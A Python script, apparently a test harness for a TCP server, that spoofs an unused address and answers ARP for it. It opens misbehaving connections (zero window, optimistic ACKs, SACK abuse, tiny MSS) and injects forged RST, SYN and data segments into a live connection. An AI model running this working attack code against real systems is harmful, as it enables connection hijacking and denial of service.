"""Peers that lie, and an off-path attacker who guesses: attacker.py INTERFACE ADDRESS PORT SECONDS

Opens connections from an address of its own, which no kernel knows of, and misbehaves on each in another way: keeps the window
closed, leaves a hole before all it sends, acknowledges what was never sent, reports octets one by one, asks for tiny segments.
Beside that it has one ordinary connection of this machine's kernel, which asks again and again, and sends forged resets, SYNs,
acknowledgements and text into it, in both numbers nearly right. Says `attacking` once all are open, and at the end how often the
ordinary connection was answered, and how many segments were forged.
"""
import random
import select
import socket
import struct
import sys
import time

from frames import checksum, station_of

interface, address, port, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16
KINDS = ["closed", "hole", "optimist", "octets", "tiny"]
EACH = 8
BIG = b"GET /big HTTP/1.1\r\nHost: a\r\n\r\n"

victim = socket.create_connection((address, port), timeout=10)
own, victim_port = victim.getsockname()
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
raw.bind((interface, 0))
our_mac = raw.getsockname()[4]
server = socket.inet_aton(address)
liar = server[:3] + bytes([77])
ethernet = station_of(address) + our_mac


def send(source, source_port, seq, ack, flags, window=65535, options=b"", text=b""):
    head = struct.pack("!HHIIBBH", source_port, port, seq % 2**32, ack % 2**32, (20 + len(options)) // 4 << 4, flags, window)
    pseudo = source + server + struct.pack("!HH", 6, 20 + len(options) + len(text))
    tcp = head + struct.pack("!H", checksum(pseudo + head + b"\0\0\0\0" + options + text)) + b"\0\0" + options + text
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0) + source + server
    raw.send(ethernet + b"\x08\x00" + ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + tcp)


class Liar:
    """One connection from the unused address."""

    def __init__(self, number):
        self.kind = KINDS[number % len(KINDS)]
        self.port = 20000 + number
        self.seq = random.getrandbits(32)
        self.next = 0  # what the server sends next
        self.open = False
        self.count = 0
        mss = 1 if self.kind == "tiny" else 1460
        send(liar, self.port, self.seq, 0, SYN, options=struct.pack("!BBH", 2, 4, mss) + b"\x01\x01\x04\x02")

    def hear(self, flags, seq, ack, length):
        if flags & SYN:
            self.seq, self.next, self.open = ack, seq + 1, True
            send(liar, self.port, self.seq, self.next, ACK)
            if self.kind != "hole":
                send(liar, self.port, self.seq, self.next, ACK | PSH, text=BIG)
                self.seq += len(BIG)
        elif (seq + length - self.next) % 2**32 < 2**31:
            self.next = (seq + length) % 2**32

    def act(self):
        if not self.open:
            return
        self.count += 1
        n = self.count
        if self.kind == "closed":
            send(liar, self.port, self.seq, self.next, ACK, window=0)
        elif self.kind == "hole":
            send(liar, self.port, self.seq + 1 + 2 * (n % 5000), self.next, ACK, text=b"x")
        elif self.kind == "optimist":
            send(liar, self.port, self.seq, self.next + (1 << 16 if n % 2 else 0), ACK)
        elif self.kind == "octets":
            first = self.next - 3000 + 2 * (n % 1000)
            blocks = [first, first + 1, self.next + 5000, self.next + 5001]
            option = struct.pack("!BBBB4I", 1, 1, 5, 18, *(block % 2**32 for block in blocks))
            send(liar, self.port, self.seq, self.next - 14600, ACK, options=option)
        else:
            send(liar, self.port, self.seq, self.next, ACK, window=300)


def forge(seq, ack):
    """Into the ordinary connection: what it has sent next is `seq`, what it has got is `ack`."""
    source = socket.inet_aton(own)
    near = seq + random.randrange(1, 20000)
    unsent, before = ack + (1 << 20) + random.getrandbits(20), ack - (1 << 30)
    kind = random.randrange(5)
    if kind == 0:
        send(source, victim_port, near, 0, RST, options=stamps)
    elif kind == 1:
        send(source, victim_port, random.choice([near, random.getrandbits(32)]), 0, SYN, options=stamps)
    elif kind == 2:
        send(source, victim_port, seq, unsent, ACK, options=stamps, text=b"GET /other HTTP/1.1\r\n")
    elif kind == 3:
        send(source, victim_port, seq, before, ACK, options=stamps, text=b"GET /other HTTP/1.1\r\n")
    else:
        send(source, victim_port, near, unsent, FIN | ACK, options=stamps)


random.seed(1)
liars = {20000 + number: Liar(number) for number in range(EACH * len(KINDS))}
victim_seq, victim_ack, stamps = 0, 0, b""
answers, forged, waiting, said = 0, 0, b"", False
REQUEST = b"GET /small HTTP/1.1\r\nHost: a\r\n\r\n"
victim.sendall(REQUEST)
victim.setblocking(False)
start = time.monotonic()
acted = start
while (now := time.monotonic()) - start < seconds:
    readable, _, _ = select.select([raw, victim], [], [], 0.002)
    if victim in readable:
        data = victim.recv(65536)
        assert data, "the ordinary connection was closed"
        waiting += data
        while (end := waiting.find(b"\r\n\r\ntiny")) >= 0:
            assert waiting.startswith(b"HTTP/1.1 200"), waiting
            waiting = waiting[end + 8 :]
            answers += 1
            victim.sendall(REQUEST)
    for _ in range(64 if raw in readable else 0):
        try:
            frame, (_, _, direction, _, _) = raw.recvfrom(65536, socket.MSG_DONTWAIT)
        except BlockingIOError:
            break
        if frame[12:14] == b"\x08\x06" and frame[38:42] == liar and frame[20:22] == b"\x00\x01":
            raw.send(frame[6:12] + our_mac + b"\x08\x06" + frame[14:20] + b"\x00\x02" + our_mac + liar + frame[22:32])
        if frame[12:14] != b"\x08\x00" or frame[23] != 6:
            continue
        tcp = 14 + (frame[14] & 15) * 4
        source_port, target_port, seq, ack, offset, flags = struct.unpack("!HHIIBB", frame[tcp : tcp + 14])
        length = struct.unpack("!H", frame[16:18])[0] - (tcp - 14) - (offset >> 4) * 4
        if frame[30:34] == liar and target_port in liars and source_port == port:
            liars[target_port].hear(flags, seq, ack, length)
        elif target_port == victim_port and frame[26:30] == server and length > 0:
            victim_ack, victim_seq = seq + length, ack
            # Its timestamps are right: or the forged segments would be dropped for those.
            if frame[tcp + 20 : tcp + 24] == b"\x01\x01\x08\x0a":
                stamps = frame[tcp + 20 : tcp + 24] + frame[tcp + 28 : tcp + 32] + frame[tcp + 24 : tcp + 28]
    if now - acted > 0.005:
        acted = now
        for one in liars.values():
            one.act()
        if victim_seq:
            forge(victim_seq, victim_ack)
            forged += 1
    if not said and all(one.open for one in liars.values()):
        said = True
        print("attacking", flush=True)
print("answers", answers, "forged", forged, flush=True)
